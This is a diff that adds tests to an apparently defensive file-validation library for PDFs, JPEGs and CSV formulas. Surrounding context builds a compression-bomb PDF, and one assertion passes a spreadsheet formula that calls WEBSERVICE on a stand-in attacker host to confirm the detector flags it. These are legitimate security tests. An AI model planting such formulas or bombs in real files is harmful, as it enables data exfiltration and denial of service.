@@ -1033,3 +1033,33 @@ def test_a_pdf_is_published_as_qpdf_read_it(tmp_path):
     bomb = raw_pdf([*PAGES[:2], page, b"<< /Length %d /Filter [/FlateDecode /FlateDecode] >>\nstream\n" % len(packed)
                     + packed + b"\nendstream"], b"<< /Size 5 /Root 1 0 R >>")
     assert len(normalised_pdf(bomb)) < 2 * len(bomb)
+
+
+def test_jpegs_the_pdf_cannot_show_are_refused_before_the_build():
+    """Twenty-sixth round: arithmetic coding, and colours sampled 3x1,
+    passed validate and stopped the briefing's PDF."""
+    from PIL import Image
+
+    from resource_library.files import jpeg_coding_problem
+    out = io.BytesIO()
+    Image.new("RGB", (16, 16), (200, 100, 50)).save(out, "JPEG")
+    plain = out.getvalue()
+    assert jpeg_coding_problem(plain) is None
+    sof = plain.index(b"\xff\xc0")
+    arithmetic = plain[:sof + 1] + b"\xc9" + plain[sof + 2:]
+    assert "arithmetic coding" in jpeg_coding_problem(arithmetic)
+    first_factors = sof + 11  # marker, length, precision, height, width, count, then id and factors
+    odd = plain[:first_factors] + b"\x31" + plain[first_factors + 1:]
+    assert "(3x1)" in jpeg_coding_problem(odd)
+
+
+def test_where_a_pdf_opens_is_no_action_and_csv_notes_are_data():
+    """Twenty-sixth round: LaTeX's hyperref opens a PDF at a view
+    (`/OpenAction [page /Fit]`), and notes with | and ! are data; a
+    function named bare for MAP to call is a call."""
+    from resource_library.files import _formula_problem, csv_formula_problem, pdf_problem
+    assert pdf_problem(raw_pdf([PAGES[0].replace(b">>", b"/OpenAction [3 0 R /Fit] >>"), *PAGES[1:]],
+                               b"<< /Size 4 /Root 1 0 R >>")) is None
+    assert csv_formula_problem(b'a,"- pending | review","- urgent! ask [finance]!","- image of the site"\n') is None
+    assert "WEBSERVICE" in _formula_problem('_xlfn.MAP({"https://attacker.example/x"},_xleta.WEBSERVICE)')
+    assert _formula_problem("SUM(Register)") is None
